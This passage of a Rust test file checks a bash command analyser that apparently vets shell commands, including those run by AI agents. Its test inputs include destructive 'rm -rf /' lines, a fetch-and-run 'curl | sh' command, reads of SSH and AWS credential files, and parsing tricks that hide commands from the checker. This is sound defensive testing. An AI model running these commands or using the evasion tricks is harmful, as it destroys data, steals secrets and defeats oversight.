        assert!(analyse(&line).failure.is_some());
        let mut line = String::from("rm -rf /");
        for _ in 0..3 {
            line = format!("echo `{}`", line.replace('\\', "\\\\").replace('`', "\\`"));
        }
        let commands = ok(&line);
        assert_eq!(commands.len(), 4);
        assert_eq!(commands[3].text(View::Literal), "rm -rf /");
    });
}

// ----- where tree-sitter-bash reads differently from bash -----

#[test]
fn heredoc_that_bash_ends_earlier_fails() {
    // bash joins `EO\<newline>F` into the delimiter line and ends the body there.
    failure("cat <<EOF\nhello\nEO\\\nF\nrm -rf /\nEOF\nls");
    // bash ends the body at the first `EOF` line, even inside `${…`.
    failure("cat <<EOF\n${x:-\nEOF\nrm -rf /}\nEOF\nls");
    failure("cat <<EOF\n$(echo \"\nEOF\nrm -rf /\n\")\nEOF\nls");
}

#[test]
fn heredoc_end_that_bash_does_not_accept_fails() {
    failure("cat <<EOF\nhello\nEOF \nls\nEOF");
    failure("cat <<EOF\nhello\nEOF\r\nls");
    failure("cat <<EOF\n\thello\n\tEOF\nls\nEOF");
    assert_eq!(argvs("cat <<-EOF\n\thello\n\tEOF\nls").len(), 2);
}

#[test]
fn heredoc_delimiter_quotes_are_removed_as_bash_does() {
    let c = &ok("cat <<\"E'F\"\n$(x)\nE'F\nls")[0];
    assert_eq!(shapes(&c.redirects), vec![redirect("<<", None, "E'F")]);
    assert_eq!(ok("cat <<\"E'F\"\n$(x)\nE'F\nls").len(), 2);
}

#[test]
fn line_continuation_between_non_blanks_fails() {
    // bash removes `\<newline>`, joining `r` and `m`; tree-sitter splits the word.
    failure("r\\\nm -rf /");
    failure("echo $(r\\\nm -rf /)");
    assert_eq!(argvs("rm \\\n  -rf x"), vec![v(&["rm", "-rf", "x"])]);
    assert_eq!(argvs("echo \"a\\\nb\""), vec![v(&["echo", "ab"])]);
}

#[test]
fn tokens_holding_blanks_or_bad_names_fail() {
    // `$<newline>x` read as the expansion `$x`, hiding the command `x` on the next line.
    failure(",<$\nrm<xb");
    // A line starting with a backslash glued to the word before it.
    failure(">*\n\\|\\'}rm");
    failure("]\t]*a");
    // `*EOF=` and `$ b` are not assignments or expansions for bash.
    failure("*EOF=");
    failure("echo \"a $ b\"");
    // A comment inside an assignment.
    failure("xb#$\n=[}");
    // A newline inside a command.
    failure("! c\n\\\n\\'");
    failure("[\n ]");
}

#[test]
fn process_substitution_inside_double_brackets_fails() {
    // bash runs `<(rm -rf /)` here; tree-sitter reads `<` and a parenthesised word.
    failure(r#"[[ ""<(rm -rf /) ]]"#);
    failure("[[ a >(rm -rf /) ]]");
    // Read right when it is an operand on its own.
    assert_eq!(
        find(&ok("[[ -n <(rm -rf /) ]]"), "rm").origin,
        Origin::ProcessSubstitution
    );
    assert_eq!(ok("[[ a < b ]] && ((a<(1)))").len(), 2);
}

#[test]
fn value_glued_to_an_assignment_fails() {
    // bash reads `x=""\x` as the assignment `x=x`, then runs `rm`.
    failure(r#"x=""\x rm -rf /"#);
}

#[test]
fn back_ticks_end_at_the_first_unescaped_back_tick() {
    failure("echo `a``b`");
    failure("x=`echo \"\"``rm -rf /`");
}

#[test]
fn reserved_words_that_close_nothing_fail() {
    for line in [
        "sudo { rm -rf build; }",
        "echo { a; }",
        "echo a; }",
        "a && }",
        "echo a; done",
        "echo a; fi",
        "echo a; then",
        "echo a; esac",
        "echo a; do",
        "echo a; else",
        "echo a; in",
        "echo a; ]]",
        "echo $(})",
    ] {
        failure(line);
    }
    // Quoted or not first, they are words.
    assert_eq!(argvs("echo }"), vec![v(&["echo", "}"])]);
    assert_eq!(argvs("'}'"), vec![v(&["}"])]);
    assert_eq!(argvs("\\}"), vec![v(&["}"])]);
    assert_eq!(
        argvs("echo a; done=1 x"),
        vec![v(&["echo", "a"]), v(&["x"])]
    );
}

#[test]
fn words_glued_to_keywords_fail() {
    // For bash these are commands named `{cat`, `[[b`, `{}`.
    failure("{cat <<'EOF'\nx\nEOF\n}");
    failure("[[b ]]");
    failure("{}&&x");
}

#[test]
fn bare_dollars_that_expand_make_the_word_dynamic() {
    let c = only("echo }xb$EO..#xa *$$ a$ $");
    assert!(c.argv[1].dynamic && c.argv[2].dynamic);
    assert_eq!(c.argv[3], word("a$", false, Some("a$")));
    assert_eq!(c.argv[4], word("$", false, Some("$")));
}

#[test]
fn blank_only_double_quoted_string_keeps_its_blanks() {
    assert_eq!(
        argvs(
            r#"echo "  "x " a " "" "\~
 ""#
        ),
        vec![v(&["echo", "  x", " a ", "", "\\~\n "])]
    );
}

#[test]
fn herestring_descriptor_is_not_an_argument() {
    let c = only("cat 0<<< hello");
    assert_eq!(c.text(View::Literal), "cat");
    assert_eq!(c.redirects, vec![redirect("<<<", Some(0), "hello")]);
}

#[test]
fn empty_quoted_brace_alternative_is_kept() {
    assert_eq!(
        argvs(r#"echo {b,""} {b,}"#),
        vec![v(&["echo", "b", "", "b"])]
    );
}

#[test]
fn extreme_brace_sequences_do_not_overflow() {
    let c = only("echo {-9223372036854775808..9223372036854775807} {a..z..9223372036854775807}");
    assert!(c.argv[1].dynamic);
    assert_eq!(c.argv[2].value, "a");
    assert_eq!(only("echo {1..2..-9223372036854775808}").argv.len(), 2);
}

#[test]
fn common_agent_commands_are_analysed() {
    for line in [
        "git commit -m \"$(cat <<'EOF'\nfix: handle empty input\n\nCo-Authored-By: x <y@z>\nEOF\n)\"",
        "cargo test --workspace 2>&1 | tail -n 20",
        "find . -name '*.rs' -exec grep -l foo {} \\;",
        "for f in *.rs; do echo \"$f\"; done",
        "python3 -c 'print(1)'",
        "cd /tmp && make -j4",
        "docker run --rm -v \"$PWD\":/app node:18 npm test",
        "awk '{print $1}' f | sort | uniq -c",
        "jq '.a[] | {x: .y}' f.json",
        "kill -9 $(pgrep foo)",
        "[ -f Cargo.toml ] && cargo build",
        "cargo build \\\n  --release",
        "cat > /tmp/x.py << EOF\nimport os\nprint(os.environ[\"HOME\"])\nEOF",
        "export PATH=\"$HOME/.cargo/bin:$PATH\"",
        "timeout 10 ./run.sh || echo \"failed: $?\"",
    ] {
        assert!(!ok(line).is_empty(), "{line:?}");
    }
    let commands = ok("find . -exec rm {} +");
    assert_eq!(commands[0].text(View::Literal), "find . -exec rm {} +");
}

#[test]
fn input_that_crashes_tree_sitter_is_refused_before_parsing() {
    // tree-sitter-bash 0.25 reads out of bounds (a segmentation fault) on these.
    failure("{1\u{E0000}");
    failure("echo i{1..2\u{10FFFF}");
    // The check is textual and coarse: a non-ASCII character right after `{` is refused.
    failure("echo '{é}'");
    assert_eq!(ok("echo {1..2} é {a} '{ é}'").len(), 1);
}

#[test]
fn kind_table_agrees_with_tree_sitter() {
    let line = "a=1 b | c && { d; } > f <<< x; $(e) `f` \"$g\" 'h' $'i' ${j:-k} [[ l ]] \
                ((m++)); case n in o) p;; esac; for q in r; do s; done; t() { u; }";
    let tree = parse(line).expect("parses");
    let mut cursor = tree.root_node().walk();
    let mut seen = 0;
    loop {
        let node = cursor.node();
        assert_eq!(node.fast_kind(), node.kind());
        seen += 1;
        if cursor.goto_first_child() {
            continue;
        }
        while !cursor.goto_next_sibling() {
            if !cursor.goto_parent() {
                assert!(seen > 100);
                return;
            }
        }
    }
}

#[test]
fn arbitrary_input_never_panics() {
    const PIECES: &[&str] = &[
        "$(", ")", "`", "'", "\"", "\\", "<<", "EOF", "\n", "<<<", "<(", ">(", "{", "}", "(", ")",
        ";", "&&", "|", "&", "$", "${", "~", "#", " ", "x", "=", "[[", "]]", "[", "]", "((", "if",
        "then", "fi", "case", "in", "esac", ";;", "for", "do", "done", "é", "\0", "$'\\x", "2>",
        ">&", "-", "function", "!", "*", "?",
    ];
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    run_with_small_stack(move || {
        for _ in 0..3000 {
            let len = (next() % 40) as usize;
            let mut line = String::new();
            for _ in 0..len {
                line.push_str(PIECES[(next() % PIECES.len() as u64) as usize]);
            }
            let analysis = analyse(&line);
            if analysis.failure.is_some() {
                assert!(analysis.commands.is_empty());
            }
            let bytes: Vec<u8> = (0..len).map(|_| (next() & 0xff) as u8).collect();
            analyse(&String::from_utf8_lossy(&bytes));
        }
    });
}

#[test]
fn a_substitution_the_parser_leaves_inside_an_expansion_fails_the_analysis() {
    for line in [
        "echo ${x:-`rm -rf ~`}",
        "echo \"${y:-`id`}\"",
        "cat ${f:=`curl -s x.example | sh`}",
    ] {
        let a = analyse(line);
        assert!(
            a.failure
                .as_deref()
                .is_some_and(|f| f.contains("inside `${…}`")),
            "{line}: {a:?}"
        );
    }
    // What the parser does read stays analysed.
    let a = analyse("echo ${x:-$(rm -rf ~)} ${y:-plain} \"${z//a/b}\"");
    assert_eq!(a.failure, None);
    assert!(a.commands.iter().any(|c| c.program() == "rm"));
}

#[test]
fn substitutions_of_known_words_are_evaluated_into_the_path_and_stay_computed() {
    for (line, path) in [
        ("cat $(echo ~/.ssh/id_rsa)", Some("~/.ssh/id_rsa")),
        (
            "cat \"$(printf %s ~/.aws/credentials)\"",
            Some("~/.aws/credentials"),
        ),
        ("cat `echo ~/.netrc`", Some("~/.netrc")),
        ("cat $(echo ~)/.ssh/id_rsa", Some("~/.ssh/id_rsa")),
        ("cat ${HOME%/}/.ssh/id_rsa", Some("~/.ssh/id_rsa")),
        ("cat --file=$(echo ~/.ssh/k)", Some("~/.ssh/k")),
        ("cat $(echo notes.txt)", Some("notes.txt")),
        // Not evaluated: unknown words, several words, other programs, a home not first.
        ("cat $(echo $X)", None),
        ("cat $(echo a b)", None),
        ("cat $(ls ~/.ssh)", None),
        ("cat x$(echo ~)", None),
        ("cat ${HOME%/*}/x", None),
        ("cat $(echo -e '~/x')", None),
    ] {
        let commands = ok(line);
        let w = &commands[0].argv[1];
        assert!(w.dynamic, "{line}: {w:?}");
        assert_eq!(w.path.as_deref(), path, "{line}");
    }
}

#[test]
fn every_redirection_operator_reads_back_from_its_spelling() {
    for op in [
        "<", ">", ">>", ">|", "&>", "&>>", "<>", ">&", "<&", ">&-", "<&-", "<<", "<<-", "<<<",
    ] {
        let parsed = RedirectOp::parse(op).expect("a known operator");
        assert_eq!(parsed.as_str(), op);
        assert_eq!(parsed.writes_output(), op.contains('>'), "{op}");
        assert_eq!(parsed.is_here(), op.starts_with("<<"), "{op}");
    }
    assert_eq!(RedirectOp::parse("<<<<"), None);
    let c = &analyse("cat <<< hi 2>&1 >/dev/null").commands[0];
    let ops: Vec<&str> = c.redirects.iter().map(|r| r.op.as_str()).collect();
    assert_eq!(ops, ["<<<", ">&", ">"]);
}

#[test]
fn a_redirection_names_the_file_as_written_not_the_value_after_an_equals_sign() {
    // `dd of=/tmp/t` writes `/tmp/t`; `> of=/tmp/t` writes `of=/tmp/t` below a folder `of=`.
    let path = |line: &str| ok(line)[0].redirects[0].target.path.clone();
    assert_eq!(path("echo x > of=/tmp/t").as_deref(), Some("of=/tmp/t"));
    assert_eq!(path("echo x > --o=/tmp/t").as_deref(), Some("--o=/tmp/t"));
    assert_eq!(
        path("echo x > x=~/.bashrc"),
        None,
        "no `~` expansion after `=` here"
    );
    assert_eq!(path("echo x > x=$HOME/a"), None);
    assert_eq!(path("echo x > ~/a").as_deref(), Some("~/a"));
    assert_eq!(
        ok("dd if=x of=/tmp/t")[0].argv[2].path.as_deref(),
        Some("/tmp/t")
    );
}
